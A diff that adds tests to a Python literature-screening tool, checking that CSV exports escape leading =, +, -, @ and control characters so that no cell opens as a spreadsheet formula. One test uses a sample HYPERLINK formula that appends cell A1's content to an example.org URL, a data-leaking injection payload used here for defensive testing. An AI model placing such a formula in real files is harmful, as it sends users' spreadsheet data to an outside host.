@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from html import escape
 
 import msgspec
@@ -11,6 +12,7 @@ from hypothesis import strategies as st
 from tests.unit.filtering.screening.records.formats import WRITERS, Entry
 
 from bayesift.filtering.screening.records import DECISIONS, LISTS, Given, read_records, write_csv, write_ris
+from bayesift.filtering.screening.records.formulas import as_text, from_text
 from bayesift.filtering.screening.records.record import Record
 
 QUICK = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -97,6 +99,36 @@ def test_any_text_survives(write, fields, title, names, form, tmp_path):
     first = read_back(made, write, path)
     assert (first[0].authors, first[0].keywords, first[0].fields) == (names, names, fields)
     assert read_back(first, write, path) == first
+
+
+MARKS = st.sampled_from("=+-@\t\r\n'")
+cells = st.tuples(st.text(MARKS, max_size=4), st.text("ab1'=", max_size=4)).map("".join)
+
+
+@given(cells=st.lists(cells, min_size=3, max_size=3))
+@example(cells=["=1+2", "'=1+2", "'90s"])
+def test_cells_are_text_for_spreadsheets_and_read_back_as_they_were(cells):
+    written = [as_text(cell) for cell in cells]
+    assert not any(cell.startswith(tuple("=+-@\t\r\n")) for cell in written)
+    assert [from_text(cell) for cell in written] == cells
+
+
+def test_no_cell_of_an_export_is_a_formula(tmp_path):
+    formula = '=HYPERLINK("https://example.org/?q="&A1, "open")'
+    fields = {"=cmd": ("+1",), "n": ("'-2",), "later": ("@x",)}
+    given = (Given("abstract", "exclude", "=ann", reason="-1", note="@b"),)
+    record = Record("", formula, "@x", authors=("=Roe", "+Poe"), journal="-J", keywords=("=k",), format="csv",
+                    fields=fields, given=given)  # fmt: skip
+    (back,) = read_back([record], write_csv, tmp_path / "out.csv")
+    assert (back.title, back.abstract, back.authors, back.journal) == (formula, "@x", record.authors, "-J")
+    assert (back.keywords, back.fields, back.given) == (("=k",), fields, given)
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
+        assert [cell for row in csv.reader(file) for cell in row if cell[:1] in set("=+-@\t\r")] == []
+
+
+def test_apostrophes_in_files_of_others_stay(tmp_path):
+    (tmp_path / "a.csv").write_text("title,doi\n'=1+2,10.1000/a\n")
+    assert read_records(tmp_path / "a.csv").records[0].title == "'=1+2"
 
 
 def test_a_changed_decision_outlives_the_label_in_the_file(tmp_path):
